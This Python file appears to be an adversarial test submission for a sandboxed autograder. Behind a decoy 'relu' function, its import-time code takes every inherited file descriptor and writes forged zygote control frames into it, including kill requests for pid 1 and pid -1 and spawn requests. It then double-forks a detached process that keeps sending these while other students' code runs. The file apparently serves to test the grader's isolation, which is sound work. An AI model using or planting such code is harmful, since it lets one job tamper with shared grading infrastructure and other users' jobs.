# attack: abuse every descriptor it inherited: write fake frames and zygote requests into
#         each (a leaked channel or control socket would reach the grader or the zygote), and
#         hand them all to a detached process that keeps doing so while later students run
# levels: bwrap process-root
# the helpers of _common.py come first
# ruff: noqa


def _inherited():
    return [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]


def _control(kind, fields):
    """A zygote control request as the grader frames it (grader/worker/protocol/control.py)."""
    header = json.dumps({"type": kind, "fields": fields, "blobs": []}).encode()
    return struct.pack(">I", len(header)) + header


def _abuse(fds):
    used = []
    for fd in fds:
        try:
            kind = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        for payload in (_control("ZygoteKill", {"pid": 1}),
                        _control("ZygoteSpawn", {"limits": {"$dict": []}, "home": "/",
                                                 "tmp_bytes": 0}),
                        json.dumps({"op": "kill", "pid": -1}).encode(),
                        b"\x00\x00\x00\x00\x00\x00\x00\x10" + b"\xff" * 16):
            try:
                if kind.startswith("socket"):
                    socket.socket(fileno=os.dup(fd)).send(payload)
                else:
                    os.write(fd, payload)
                used.append((fd, kind))
            except OSError:
                pass
    return used


def _keep():
    fds = _inherited()
    print("inherited", [(fd, os.readlink(f"/proc/self/fd/{fd}")) for fd in fds], flush=True)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(300):
                time.sleep(0.1)
                _abuse(fds)
            os._exit(0)
        os._exit(0)
    os.waitpid(pid, 0)
    return fds


_KEPT = _keep()


def relu(x):
    return _zeros(x) + 0 * len(_KEPT)
